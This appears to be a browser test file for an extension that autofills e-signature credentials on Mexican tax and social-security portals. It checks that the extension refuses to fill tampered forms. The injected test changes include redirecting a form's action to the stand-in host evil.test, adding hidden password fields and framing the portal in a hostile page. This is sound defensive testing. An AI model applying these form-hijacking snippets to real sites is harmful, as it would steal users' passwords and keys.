/** What keeps a form from being filled, at every portal that has one. */
import type { Frame, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { closePage } from '../../scripts/close-page.ts';
import { satSites, setGrantedStage } from '../../scripts/granted-stage.ts';
import { bring, openApp } from '../../scripts/person.ts';
import type { Stage } from '../../scripts/stage.ts';
import { until } from '../../scripts/worker.ts';
import type { FillPlan } from '../../src/messages.ts';
import { documentOf, fillPlaces, openPlace, type FillPlace } from './fill-places.ts';
import { countEntries, tabIdOf, tellWorker, type Told } from './page-api.ts';
import { startStrangers, type Strangers } from './strangers.ts';
import { everythingIsEmpty } from './widget.ts';

let strangers: Strangers;
let stage: Stage;
let app: Page;
let credentialId: string;
let page: Page;

beforeAll(async () => {
  strangers = await startStrangers(['evil.test']);
  stage = await setGrantedStage(satSites, { resolverRules: strangers.rules });
  strangers.secure(stage.tls);
  const { cerPath, keyPath, password } = stage.pki.credentials.enie;
  app = await openApp(stage.browser, 'certificados');
  await bring(app, [cerPath, keyPath], password, 'use');
  await app.evaluate((origins) => chrome.permissions.request({ origins }), [...satSites]);
  const { res } = await tellWorker(app, 'listCredentials', undefined);
  [{ id: credentialId }] = res as [{ id: string }];
});

afterAll(async () => {
  await stage.close();
  await strangers.stop();
});

beforeEach(async () => {
  page = await stage.browser.context.newPage();
});

afterEach(() => closePage(page));

async function planFor(): Promise<Told> {
  return tellWorker(app, 'planFill', { tabId: await tabIdOf(stage.browser, page) });
}

function fill(plan: FillPlan): Promise<Told> {
  return tellWorker(app, 'fill', { plan, credentialId, password: '', user: 'usuario' });
}

/** Opens a place; the document with its form, once it can be filled, and the plan to do it. */
async function formOf(place: FillPlace): Promise<{ form: Frame; plan: FillPlan }> {
  await openPlace(stage.replica, page, place);
  const plan = await until('A plan', async () => (await planFor()).res as FillPlan | undefined);
  return { form: await documentOf(page, place), plan };
}

const evil = 'https://evil.test/robo';

/** In the document of the form; `form`, `password` and `key` are its own. */
const changes: [what: string, code: string, change: string, isSeenLater?: true][] = [
  ['goes to another site', 'form_goes_elsewhere', `form.action = '${evil}'`],
  [
    'goes to another site behind a field named «action»',
    'form_goes_elsewhere',
    `form.action = '${evil}'; form.insertAdjacentHTML('beforeend', '<input name="action">')`,
  ],
  ['goes to plain http', 'form_goes_elsewhere', "form.action = 'http://' + location.host"],
  ['goes to a script', 'form_goes_elsewhere', "form.setAttribute('action', 'javascript:void 0')"],
  [
    'goes to another site by a second button',
    'form_goes_elsewhere',
    `form.insertAdjacentHTML('beforeend', '<button formaction="${evil}">Ir</button>')`,
  ],
  ['has lost a field', 'form_not_found', 'key.remove()'],
  [
    'asks for a second password',
    'form_changed',
    `form.insertAdjacentHTML('beforeend', '<input type="password" name="otra">')`,
  ],
  [
    'asks for a second password that cannot be seen',
    'form_changed',
    `form.insertAdjacentHTML('beforeend', '<input type="password" name="otra" hidden>')`,
  ],
  [
    'was replaced by another that looks the same',
    'page_changed',
    'form.replaceWith(form.cloneNode(true))',
    true,
  ],
  [
    'has another field for the password',
    'page_changed',
    'password.replaceWith(password.cloneNode(true))',
    true,
  ],
];

describe.each(fillPlaces)('%s', (_name, place) => {
  const { password, key, url } = place;
  const within = (change: string): string => `{
    const password = document.getElementById('${password}');
    const key = document.getElementById('${key}');
    const { form } = password;
    ${change};
  }`;

  /** The page is as before, its elements the same ones, after `undo()`. */
  const undoable = (change: string): string =>
    within(`
      const observer = new MutationObserver(() => undefined);
      const attributes = { attributes: true, attributeOldValue: true };
      observer.observe(document, { subtree: true, childList: true, ...attributes });
      ${change};
      const records = observer.takeRecords().reverse();
      observer.disconnect();
      window.undo = () => {
        for (const { target, attributeName: name, oldValue, ...lists } of records.map(listed)) {
          if (name !== null && oldValue === null) target.removeAttribute(name);
          else if (name !== null) target.setAttribute(name, oldValue);
          for (const node of lists.addedNodes) node.remove();
          for (const node of lists.removedNodes) target.insertBefore(node, lists.nextSibling);
        }
      };
      function listed({ target, attributeName, oldValue, addedNodes, removedNodes, nextSibling }) {
        return { target, attributeName, oldValue, addedNodes, removedNodes, nextSibling };
      }`);

  test('fills no form that changed after it was shown, until it is as it was', async () => {
    const fills = await countEntries(app, 'fill');
    const { form, plan } = await formOf(place);
    for (const [what, code, change, isSeenLater] of changes) {
      await form.evaluate(undoable(change));
      expect((await planFor()).err?.code, what).toBe(isSeenLater ? undefined : code);
      expect((await fill(plan)).err?.code, what).toBe(code);
      expect(await everythingIsEmpty(page), what).toBe(true);
      await form.evaluate('undo()');
    }
    expect(await countEntries(app, 'fill')).toBe(fills);
    expect(await fill(plan)).toMatchObject({ res: { page: 'ready' } });
    expect(await countEntries(app, 'fill')).toBe(fills + 1);
  });

  test.each([
    ['goes elsewhere', `form.action = '${evil}'`],
    ['is replaced', 'form.replaceWith(form.cloneNode(true))'],
  ])('gets no password when it %s while it takes the files', async (_what, change) => {
    const { form, plan } = await formOf(place);
    await form.evaluate(
      within(`window.heard = 0;
        window.old = [password, key];
        document.addEventListener('input', ({ target }) => {
          if (target.id === password.id) window.heard += 1;
        });
        key.addEventListener('change', () => { ${change}; })`),
    );
    expect((await fill(plan)).err?.code).toBe('form_changed');
    expect(await form.evaluate('heard'), 'the password was never in it').toBe(0);
    expect(await form.evaluate('old.map(({ value }) => value)')).toEqual(['', '']);
    expect(await form.inputValue(`#${password}`)).toBe('');
  });

  test('gets no password when the page throws the files away', async () => {
    const { form, plan } = await formOf(place);
    await form.evaluate(
      within(
        `key.addEventListener('change', () => { setTimeout(() => { key.value = ''; }, 100); })`,
      ),
    );
    expect((await fill(plan)).err?.code).toBe('form_rejected_files');
    const left = await form.evaluate(
      (id) => (document.getElementById(id) as HTMLInputElement).value,
      password,
    );
    expect(left).toBe('');
  });

  test('gets nothing inside a stranger’s page', async () => {
    const { plan } = await formOf(place);
    strangers.serve('https://evil.test/marco', `<!doctype html><iframe src="${url}"></iframe>`);
    await page.goto('https://evil.test/marco');
    expect((await planFor()).err?.code).toBe('not_a_portal');
    expect((await fill(plan)).err?.code).toBe('not_a_portal');
    expect(await everythingIsEmpty(page)).toBe(true);
  });
});

const [[, buzon]] = fillPlaces as [(typeof fillPlaces)[number]];

test('a field that the page closed to writing is left alone', async () => {
  const { form, plan } = await formOf(buzon);
  await form.evaluate("inputRFC.value = 'DE LA PÁGINA'; inputRFC.readOnly = true");
  expect(await fill(plan)).toMatchObject({ res: { page: 'ready' } });
  expect(await form.inputValue('#inputRFC')).toBe('DE LA PÁGINA');
});

const heardAt = [
  ['buzon-imss', ['inputRFC', 'inputCertificado', 'inputKey', 'inputPassword']],
  ['idse', ['idUsuario', 'certificado', 'llave', 'password']],
] as const;

test.each(heardAt)(
  'at %s a setter that the page gave its field is not seen by us, its listeners are heard',
  async (portal, all) => {
    const place = fillPlaces.map(([, one]) => one).find((one) => one.portal === portal)!;
    const { form, plan } = await formOf(place);
    const field = `document.getElementById('${place.password}')`;
    await form.evaluate(`{
      Object.defineProperty(${field}, 'value', { get: () => '', set: () => {} });
      window.inputs = [];
      window.changed = [];
      document.addEventListener('input', ({ target }) => inputs.push(target.id));
      document.addEventListener('change', ({ target }) => changed.push(target.id));
    }`);
    expect(await fill(plan)).toMatchObject({ res: { page: 'ready' } });
    const native = `Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')
      .get.call(${field})`;
    expect(await form.evaluate(native)).toBe(stage.pki.credentials.enie.password);
    expect(await form.evaluate('inputs')).toEqual(all);
    expect(await form.evaluate('changed')).toEqual(all);
  },
);
